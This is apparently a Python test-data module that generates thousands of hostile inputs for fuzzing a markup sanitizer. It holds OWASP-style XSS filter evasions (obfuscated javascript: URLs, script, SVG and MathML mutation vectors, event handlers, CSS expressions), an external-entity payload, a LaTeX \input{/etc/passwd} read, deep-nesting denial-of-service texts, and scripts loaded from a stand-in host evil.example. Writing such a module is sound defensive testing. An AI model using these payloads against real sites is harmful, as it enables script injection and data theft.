"""Hostile texts: the ways of OWASP's list of XSS filter evasions, in every place that markup has for them."""

import json
import random
from collections.abc import Iterator
from html import escape

from evalsite.lib.markup.cleaning import LONGEST

TO = "https://evil.example"
ACT = "alert('XSS')"

# --- Addresses that run or fetch

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "\x01javascript:",
    "\x00javascript:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "jav&#x09;ascript:",
    "jav&#x0A;ascript:",
    "jav&#x0D;ascript:",
    "&#14; javascript:",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
    "&#0000106&#0000097&#0000118&#0000097script&#58",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
    "javascript&colon;",
    "javascript&#58;",
    "java&Tab;script:",
    "java&NewLine;script:",
    "%6A%61%76%61script:",
    "\\u006aavascript:",
    "ｊavascript:",
    "vbscript:",
    "VBSCRIPT:",
    "livescript:",
    "mocha:",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "data:text/html,<script>",
    "data:,",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2Zy8+#",
    "blob:",
    "file:///",
    f"{TO}/?",
    "//evil.example/",
    "\\\\evil.example\\",
    "http:evil.example/",
    f"{TO}\\@",
    "mailto:x?subject=",
    "ftp://evil.example/",
    "about:blank#",
    "filesystem:",
    "ws://evil.example/",
    "tel:",
    "sms:",
    "intent://evil.example/#Intent;scheme=http;end",
)
ADDRESSES = [f"{scheme}{ACT}" for scheme in _SCHEMES]

_WITH_ADDRESS = (
    '<a href="%s">x</a>',
    "<a href='%s'>x</a>",
    "<a href=%s>x</a>",
    "<a href=`%s`>x</a>",
    "<img src=%s>",
    '<img src="%s">',
    '<img """><a href="%s">x</a>">',
    "<IMG SRC = '%s'>",
    '<img srcset="%s 1x">',
    '<img dynsrc="%s">',
    '<img lowsrc="%s">',
    '<iframe src="%s"></iframe>',
    '<iframe srcdoc="<a href=%s>"></iframe>',
    '<embed src="%s">',
    '<object data="%s"></object>',
    '<form action="%s"><button>x</button></form>',
    '<button formaction="%s">x</button>',
    '<input type=image src="%s">',
    '<body background="%s">',
    '<table background="%s"><td background="%s">',
    '<link rel=stylesheet href="%s">',
    '<base href="%s">',
    '<meta http-equiv=refresh content="0;url=%s">',
    '<bgsound src="%s">',
    '<video poster="%s"><source src="%s"></video>',
    '<svg><a xlink:href="%s"><text>x</text></a></svg>',
    '<svg><use href="%s#x"/></svg>',
    '<svg><image href="%s"/></svg>',
    '<svg><animate attributeName=href to="%s"/></svg>',
    '<math><mi xlink:href="%s">x</mi></math>',
    '<math href="%s">x</math>',
    '<math><maction actiontype="statusline" xlink:href="%s">x</maction></math>',
    '<p style="background:url(%s)">x</p>',
    '<div style="behavior:url(%s)">x</div>',
    "<style>@import '%s';</style>",
    '<blockquote cite="%s">x</blockquote>',
    '<q cite="%s">x</q>',
    '<del cite="%s">x</del>',
    '<area href="%s">',
    '<audio src="%s" autoplay></audio>',
    "[x](%s)",
    "[x](<%s>)",
    '[x](%s "title")',
    "![x](%s)",
    "![x](<%s>)",
    "<%s>",
    "[x]: %s\n\n[x]",
    "[x]\n\n[x]: <%s> 'y'",
    "[![x](%s)](%s)",
    "| a |\n|---|\n| [x](%s) |",
    "> - [x](%s)",
    "# [x](%s)",
    r"$\href{%s}{x}$",
    r"\(\href{%s}{x}\)",
    r"$$\href{%s}{x}$$",
    r"\[\url{%s}\]",
    r"$\includegraphics{%s}$",
    "```html\n<a href=%s>\n```",
    "```%s\nx\n```",
    "`%s`",
)

# --- Elements that run by themselves

ELEMENTS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT SRC={TO}/x.js></SCRIPT>",
    f"<script/src={TO}/x.js>",
    f"<<script>{ACT}//<</script>",
    f"<script/xss src={TO}>",
    f"<script\x20type=text/javascript>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script\x00>{ACT}</script>",
    f"\x00<script>{ACT}</script>",
    f"<scr\x00ipt>{ACT}</script>",
    f"<!--><script>{ACT}</script>-->",
    f"<!--[if gte IE 4]><script>{ACT}</script><![endif]-->",
    f"</title><script>{ACT}</script>",
    f"<script>{ACT}",
    f"<script {ACT}",
    f"<textarea></textarea><script>{ACT}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f'<noscript><style></noscript><img src=x onerror="{ACT}"></style>',
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<plaintext><script>{ACT}</script>",
    f"<template><script>{ACT}</script></template>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script xlink:href={TO}></script></svg>",
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>",
    f"<svg><desc><script>{ACT}</script></desc></svg>",
    f"<svg><set attributeName=onmouseover to={ACT}></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={ACT}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<math><mi><script>{ACT}</script></mi></math>",
    f'<math><annotation-xml encoding="text/html"><script>{ACT}</script></annotation-xml></math>',
    f"<math><style><img src=x onerror={ACT}>",
    f"<math><semantics><annotation encoding='text/html'><img src=x onerror={ACT}></annotation></semantics></math>",
    f"<table><td><svg><style></table><img src=x onerror={ACT}>",
    f"<select><style></select><img src=x onerror={ACT}></style>",
    f"<a><svg><title><a id='</title><img src=x onerror={ACT}>'>",
    f'<div id="1`><img src=x onerror={ACT}>`">',
    f"<p title='`onmouseover={ACT}'>",
    f'<p style="xss:expression({ACT})">',
    f"<p style='x:exp/**/ression({ACT})'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>body::before{content:url(https://evil.example/x)}</style>",
    f'<p style="-moz-binding:url({TO}/x.xml#xss)">',
    "<p style='position:fixed;inset:0;z-index:9'>over all</p>",
    "<p id=rating class=card>x</p>",
    "<p data-rating data-once>x</p>",
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{ACT}</x:script>',
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{TO}'>]><x>&y;</x>",
    f"<xml id=i><x><b>&lt;img src=x onerror={ACT}&gt;</b></x></xml>",
    "<form id=x><input name=position value=1><input name=attributes></form>",
    "<input autofocus>",
    "<details open>x",
    "<dialog open>x</dialog>",
    f"<marquee onstart={ACT}>x</marquee>",
    "<frameset><frame src=https://evil.example></frameset>",
    f"<isindex action={TO}>",
    f"<keygen autofocus onfocus={ACT}>",
    f"<portal src={TO}>",
    f"<applet code={TO}>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{ACT}",
    "&#60script&#62alert(1)&#60/script&#62",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    f"＜script＞{ACT}＜/script＞",
    f"<\u212a>{ACT}",
    f"<ſcript>{ACT}</ſcript>",
    r"$\def\a{\a}\a$",
    r"$\def\a{\b\b}\def\b{\a\a}\a$",
    r"$\newcommand{\x}{\x\x}\x$",
    r"$\let\x\y\x$",
    r"$\style{color:red;background:url(//evil.example)}{x}$",
    r"$\class{card}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\hspace{-999em}x$",
    r"$\rule{999em}{999em}$",
    r"$\color{url(//evil.example)}x$",
    r"$\textcolor{red;}{x}$",
    r"$\colorbox{red}{<b>}$",
    r"$\unicode{60}script$",
    r"$\mathbb{<script>}$",
    r"$\operatorname{<script>}$",
    r"$\begin{<script>}\end{<script>}$",
    r"$&lt;script&gt;$",
    r"$\require{html}\cssId{x}{y}$",
    r"$\input{/etc/passwd}$",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "<br onload=alert(1)>",
    "<br/><br\t/>",
    "a\n\n<div>\n*b*\n</div>",
    '{"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}',
    '{"a": {"__proto__": ["\\u003cscript\\u003e"]}}',
    "+<script>alert(1)</script>\n@@ -1 +1 @@ <b>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<a/href=javascript:alert(1)>x",
    "<a\nhref\n=\n'javascript:alert(1)'>x",
    "<img src='x'onerror='alert(1)'>",
    "<img/src/onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ud7ff\ue000<b>",
    "\x85\u2028\u2029<b onclick=alert(1)>",
    "\x1b]8;;https://evil.example\x07x",
)
_EVENTS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle "
    "onbeforeunload onblur oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy "
    "oncuechange oncut ondblclick ondrag ondragend ondrop onended onerror onfocus onfocusin onformdata "
    "onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata "
    "onloadstart onmessage onmousedown onmouseenter onmousemove onmouseover onmousewheel onpagehide onpageshow "
    "onpaste onplay onpointerdown onpointerenter onpointerover onpopstate onprogress onreadystatechange onreset "
    "onresize onscroll onscrollend onsearch onseeked onselect onselectionchange onselectstart onshow onsubmit "
    "ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onwheel"
)
_WITH_EVENT = ("<p %s=%s>x</p>", '<b/%s="%s">x</b>', "<img src=x %s='%s'>", "<details open %s=%s>x</details>")
_AROUND = (
    "%s",
    "> %s",
    "- %s",
    "| a |\n|---|\n| %s |",
    "**%s**",
    "# %s",
    "[%s](x)",
    "<p>%s</p>",
    "<td>%s",
    '{"a": %s}',
)
_NESTED = (
    "> ",
    ">",
    "- ",
    "1. ",
    "* ",
    "*",
    "_",
    "**a ",
    "[",
    "![",
    "[a](",
    "`",
    "$",
    "$$\n",
    "\\[\n",
    "\\(",
    "<",
    "<a ",
    "<a href=",
    "<b a='",
    "<div>",
    "<b>",
    "<!--",
    "<p><b>",
    "<table><tr><td>",
    "<svg>",
    "<script>",
    "&",
    "|-|\n",
    "a|b\n-|-\n",
    "~~a ",
    "[[a]",
    "[a][",
    "*_",
    "{",
    '{"a":',
    "[",
    "[1,",
    "@@ ",
    "+",
    "```\n",
    "`` ` ",
    "\\frac{",
    "$\\sqrt",
    "$" + "{" * 400 + "$ ",
    "$\\sqrt{" * 200 + "$",
)


def hostile_texts(seed: int = 1) -> list[str]:
    """Return some thousands of different texts, none longer than is shown with its markup."""
    return list(dict.fromkeys(_texts(random.Random(seed))))


def nested_texts() -> Iterator[str]:
    """Yield texts that are as deep as their length allows, and of 10⁵ levels."""
    for opening in _NESTED:
        yield opening * (LONGEST // 4 // len(opening))
    for opening, closing in (("*", "*"), ("[", "]"), ("[", "](a)"), ("<b>", "</b>"), ("<div>", "</div>"), ("[", "]")):
        n = LONGEST // (len(opening) + len(closing))
        yield opening * n + "a" + closing * n
    for opening in ("> ", "- ", "*", "[", "<div>", "{", "$"):
        yield opening * 100_000


def _texts(rng: random.Random) -> Iterator[str]:
    yield from ELEMENTS
    for written in _WITH_ADDRESS:
        for address in ADDRESSES:
            yield written.replace("%s", address)
    for event in _EVENTS.split():
        for written in _WITH_EVENT:
            yield written % (event, ACT)
    for element in ELEMENTS:
        for around in rng.sample(_AROUND, 4):
            yield around.replace("%s", json.dumps(element) if around.startswith("{") else element)
        yield escape(element)
    for _ in range(400):
        parts = rng.choices((*ELEMENTS, *ADDRESSES), k=rng.randint(2, 5))
        mixed = rng.choice(("", " ", "\n", "\n\n")).join(parts)
        at = rng.randrange(len(mixed))
        yield mixed[:at] + rng.choice(("\x00", '"', "'", "`", "<", ">", "\\", "&", "$")) + mixed[at:]
